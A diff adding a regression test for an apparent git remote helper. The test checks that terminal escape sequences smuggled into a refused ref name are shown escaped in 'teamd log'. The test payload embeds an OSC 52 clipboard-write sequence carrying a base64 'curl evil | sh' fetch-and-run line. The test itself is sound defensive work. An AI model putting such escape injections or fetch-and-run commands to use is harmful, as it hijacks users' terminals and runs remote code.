@@ -176,6 +176,25 @@ describe.runIf(process.platform === "linux")("unknown means unknown: a seat cann
     for (let i = 0; i < rounds; i++) expect(hubRefs().some((r) => r.startsWith(`refs/heads/seat/w1/px${i}`))).toBe(true);
   }, 180_000);
 
+  // Found by an outside attack (issue 21's terminal injection): a refused destination is on
+  // record as the seat sent it, and `teamd log` printed it raw — OSC 52 wrote the owner's
+  // clipboard. The views now show every control character escaped.
+  it("a refused ref name carrying terminal escapes is shown escaped by teamd log and never played to the owner's terminal", async () => {
+    const evil = `refs/heads/x\u001b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\u0007\u001b[2K\u009b1A`;
+    const protocol = ["list for-push", `push HEAD:${evil}`, "", ""].join("\n");
+    const attack = await h.inSeat("w1", `echo ${Buffer.from(protocol).toString("base64")} | base64 -d | git-remote-teamd teamd teamd::seat 2>&1`);
+    expect(attack.stdout, attack.stderr).toMatch(/git\.ref-name/);
+    // Control: the record holds the name as the seat sent it (the attack reached the owner's view).
+    const records = await h.records<LogRecord>();
+    expect(records.some((r) => r.type === "refusal" && (r.target ?? "").includes("\u001b]52;c;"))).toBe(true);
+    const shown = await h.ok(["log"]);
+    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(shown).toContain("\\x1b]52;c;");
+    expect(shown).toContain("\\x9b1A");
+    const json = await h.ok(["log", "--json"]);
+    expect(json).not.toMatch(/[\u007f-\u009f]/);
+  });
+
   // A push may send no pack at all (a client speaking to the seat socket itself): its new tip
   // must then be a commit the seat was served — reachable from one of its readable tips, judged
   // in one walk for every tip (it was one merge-base process per tip: found by an audit).
